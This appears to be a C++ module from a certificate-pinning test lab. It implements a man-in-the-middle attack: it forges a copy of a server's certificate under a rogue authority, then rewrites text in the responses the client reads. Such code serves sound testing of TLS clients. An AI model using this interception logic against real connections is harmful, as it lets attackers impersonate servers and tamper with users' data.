// Shows the damage when interception succeeds: a rogue copy, then one text for another in what the client
// reads.
#include "attacks/registry.h"

namespace pinlab::attacks {
namespace {

class TamperResponse : public Impersonator {
  public:
    explicit TamperResponse(const Arguments& arguments)
        : authority_(arguments["authority"]),
          key_(arguments["key"]),
          find_(arguments["find"]),
          replace_(arguments["replace"]) {
        // As long as before, so that Content-Length stays true.
        replace_.resize(find_.size(), ' ');
    }

    std::string on_response(std::string bytes) override {
        for (std::size_t at = 0; !find_.empty() && (at = bytes.find(find_, at)) != std::string::npos;) {
            bytes.replace(at, find_.size(), replace_);
            at += find_.size();
        }
        return bytes;
    }

  private:
    pki::Identity lie(const std::vector<pki::Certificate>& chain, const Forge& forge) const override {
        return forge.copy(chain.front(), authority_, key_);
    }

    std::string authority_;
    std::string key_;
    std::string find_;
    std::string replace_;
};

PINLAB_ATTACK(TamperResponse,
              {.name = "tamper_response",
               .summary = "a rogue copy that rewrites what the client reads; changes response bytes",
               .source = "CWE-300; RFC 8446 E.1: integrity ends with authentication",
               .parameters = {
                   {"authority", "rogue", "the authority that signs the copy"},
                   {"key", "attacker", "the key of the copy"},
                   {"find", "pinlab", "the text to look for in the response"},
                   {"replace", "pwned!", "what stands there instead, cut or padded to the same length"}}});

}  // namespace
}  // namespace pinlab::attacks
